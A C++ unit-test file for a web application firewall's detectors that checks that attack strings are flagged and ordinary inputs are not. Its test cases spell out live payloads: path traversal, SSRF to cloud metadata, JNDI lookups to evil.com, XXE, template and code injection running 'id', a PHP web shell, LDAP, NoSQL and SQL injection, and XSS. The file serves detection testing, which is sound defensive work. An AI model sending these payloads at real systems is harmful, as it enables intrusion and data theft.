@@ -1,0 +1,165 @@
+// Path traversal / LFI, SSRF / RFI, XXE, SSTI, JNDI, NoSQL, LDAP, header injection, code
+// injection, protocol anomalies and scanners, end to end through the default profile.
+#include <string>
+
+#include "gtest/gtest.h"
+#include "libs/detect/test_util.h"
+
+namespace shieldx::detect {
+namespace {
+
+using testing::Flagged;
+using testing::HasCategory;
+using testing::Inspect;
+using testing::InspectQueryValue;
+
+struct Case {
+  const char* value;
+  Category category;
+};
+
+class ValueAttack : public ::testing::TestWithParam<Case> {};
+TEST_P(ValueAttack, IsBlockedInItsCategory) {
+  Verdict v = InspectQueryValue(GetParam().value);
+  EXPECT_TRUE(Flagged(v)) << GetParam().value;
+  EXPECT_TRUE(HasCategory(v, GetParam().category)) << GetParam().value << " -> " << v.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, ValueAttack,
+    ::testing::Values(
+        Case{"../../../../etc/passwd", Category::kLfi},
+        Case{"..%2f..%2f..%2fwindows%2fwin.ini", Category::kLfi},
+        Case{"%c0%ae%c0%ae%c0%afetc%c0%afshadow", Category::kLfi},
+        Case{"....//....//....//etc/hosts", Category::kLfi},
+        Case{"..\\..\\..\\boot.ini", Category::kLfi},
+        Case{"/static/../../../../../../tmp/x", Category::kPathTraversal},
+        Case{"file:///etc/passwd", Category::kLfi},
+        Case{"http://169.254.169.254/latest/meta-data/", Category::kSsrf},
+        Case{"http://2130706433/admin", Category::kSsrf},           // decimal 127.0.0.1
+        Case{"http://0x7f000001/", Category::kSsrf},                // hex
+        Case{"http://0177.0.0.1/", Category::kSsrf},                // octal
+        Case{"http://[::ffff:127.0.0.1]/", Category::kSsrf},        // IPv6-mapped
+        Case{"http://[::ffff:a9fe:a9fe]/latest", Category::kSsrf},  // mapped metadata
+        Case{"http://metadata.google.internal/computeMetadata/v1/", Category::kSsrf},
+        Case{"gopher://127.0.0.1:6379/_FLUSHALL", Category::kSsrf},
+        Case{"http://66.240.183.75/crash.php", Category::kRfi},
+        Case{"https://evil.example/shell.txt?", Category::kRfi},
+        Case{"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", Category::kXxe},
+        Case{"{{7*7}}", Category::kSsti},
+        Case{"{{''.__class__.__mro__[1].__subclasses__()}}", Category::kSsti},
+        Case{"${T(java.lang.Runtime).getRuntime().exec('id')}", Category::kCodeInjection},
+        Case{"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+             Category::kSsti},
+        Case{"${jndi:ldap://evil.com/a}", Category::kJndi},
+        Case{"${${lower:j}${upper:n}di:${::-l}dap://x/a}", Category::kJndi},
+        Case{"${${env:NaN:-j}ndi${env:NaN:-:}rmi://x/a}", Category::kJndi},
+        Case{"{\"$where\": \"sleep(1000)\"}", Category::kNosqli},
+        Case{"true, $where: '1 == 1'", Category::kNosqli},
+        Case{"*)(uid=*))(|(uid=*", Category::kLdapi},
+        Case{"admin)(|(password=*)", Category::kLdapi},
+        Case{"x\r\nSet-Cookie: session=attacker", Category::kProtocol},
+        Case{"<?php system($_GET['c']); ?>", Category::kCodeInjection},
+        Case{"O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", Category::kCodeInjection},
+        Case{"php://filter/convert.base64-encode/resource=index.php", Category::kCodeInjection},
+        Case{"java.lang.Runtime", Category::kCodeInjection},
+        Case{"require('child_process').exec('id')", Category::kCodeInjection},
+        Case{"{\"__proto__\":{\"admin\":true}}", Category::kCodeInjection},
+        Case{"<!--#exec cmd=\"ls\" -->", Category::kMailInjection},
+        Case{"\r\nRCPT TO: victim@example.com\r\n", Category::kMailInjection}));
+
+class ValueBenign : public ::testing::TestWithParam<const char*> {};
+TEST_P(ValueBenign, IsAllowed) {
+  Verdict v = InspectQueryValue(GetParam());
+  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(
+    Text, ValueBenign,
+    ::testing::Values("https://www.example.com/products?id=12&sort=asc", "version 0.1.8", "10.00",
+                      "images/../logo.png is relative", "http://localhost:3000/callback",
+                      "{{ user.name }} is a template variable name", "price (USD)",
+                      "see (a) and (b)", "user@example.com",
+                      "C:\\Users\\ann\\Documents\\report.docx",
+                      "data:image/"
+                      "png;base64,"
+                      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
+                      "kgAAAABJRU5ErkJggg==",
+                      "\xd0\x9c\xd0\xbe\xd1\x81\xd0\xba\xd0\xb2\xd0\xb0, \xd1\x83\xd0\xbb. "
+                      "\xd0\x9b\xd0\xb5\xd0\xbd\xd0\xb8\xd0\xbd\xd0\xb0 1",
+                      "\xe6\x9d\xb1\xe4\xba\xac\xe9\x83\xbd\xe6\xb8\x8b\xe8\xb0\xb7\xe5\x8c\xba"));
+
+TEST(Detectors, CodeInJsonBodyFromAnEditorIsAllowed) {
+  std::string code =
+      "{\"file\":\"main.js\",\"source\":\"function add(a, b) {\\n  if (a > b) {\\n    return a - "
+      "b;\\n"
+      "  }\\n  // subtract\\n  const x = [1,2,3].map(v => v * 2);\\n  console.log('total', x);\\n"
+      "  return a + b;\\n}\\nmodule.exports = { add };\\n\"}";
+  Verdict v = Inspect(testing::Post("/api/files", "application/json", code));
+  EXPECT_FALSE(Flagged(v)) << v.explanation;
+}
+
+TEST(Detectors, LongFormPostIsAllowed) {
+  std::string text;
+  for (int i = 0; i < 40; ++i) {
+    text +=
+        "We would like to select the best option from the menu, and then order it; "
+        "delete nothing, update everyone (or at least most people) by email. ";
+  }
+  Verdict v = Inspect(testing::Post("/feedback", "application/x-www-form-urlencoded",
+                                    "name=Ann&message=" + testing::UrlEncode(text)));
+  EXPECT_FALSE(Flagged(v)) << v.explanation;
+}
+
+TEST(Detectors, SmugglingHeadersAreBlocked) {
+  OwnedHttpRequest r = testing::Post("/", "application/x-www-form-urlencoded", "a=1");
+  r.headers.emplace_back("Transfer-Encoding", " chunked");
+  Verdict v = Inspect(r);
+  EXPECT_TRUE(Flagged(v));
+  EXPECT_TRUE(HasCategory(v, Category::kProtocol));
+}
+
+TEST(Detectors, UnknownMethodIsBlockedAndCommonOnesAllowed) {
+  OwnedHttpRequest r = testing::Get("/");
+  r.method = "FOO";
+  EXPECT_TRUE(Flagged(Inspect(r)));
+  for (const char* m : {"GET", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE"}) {
+    r.method = m;
+    EXPECT_FALSE(Flagged(Inspect(r))) << m;
+  }
+}
+
+TEST(Detectors, ScannerUserAgentIsBlocked) {
+  OwnedHttpRequest r = testing::Get("/");
+  r.headers[1].second = "sqlmap/1.7.4#stable (https://sqlmap.org)";
+  Verdict v = Inspect(r);
+  EXPECT_TRUE(Flagged(v));
+  EXPECT_TRUE(HasCategory(v, Category::kScanner));
+}
+
+TEST(Detectors, Log4ShellInAnyHeaderIsBlocked) {
+  OwnedHttpRequest r = testing::Get("/");
+  r.headers.emplace_back("Accept-Language", "${jndi:ldap://x.example/a}");
+  EXPECT_TRUE(HasCategory(Inspect(r), Category::kJndi));
+}
+
+TEST(Detectors, ScriptUploadIsBlocked) {
+  std::string body =
+      "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php.jpg\"\r\n"
+      "Content-Type: image/jpeg\r\n\r\nxx\r\n--B--\r\n";
+  Verdict v = Inspect(testing::Post("/upload", "multipart/form-data; boundary=B", body));
+  EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << v.explanation;
+}
+
+TEST(Detectors, PayloadInArgumentNameIsFound) {
+  Verdict v = Inspect(testing::Get("/?" + testing::UrlEncode("1' union select 1,2--") + "=x"));
+  EXPECT_TRUE(HasCategory(v, Category::kSqli));
+}
+
+TEST(Detectors, PaddedPayloadAtTheEndOfAHugeValueIsFound) {
+  std::string v(200 * 1024, 'A');
+  v += "';alert(1)//<script>alert(1)</script>";
+  Verdict verdict = Inspect(testing::Post("/", "application/x-www-form-urlencoded", "a=" + v));
+  EXPECT_TRUE(HasCategory(verdict, Category::kXss));
+}
+
+}  // namespace
+}  // namespace shieldx::detect
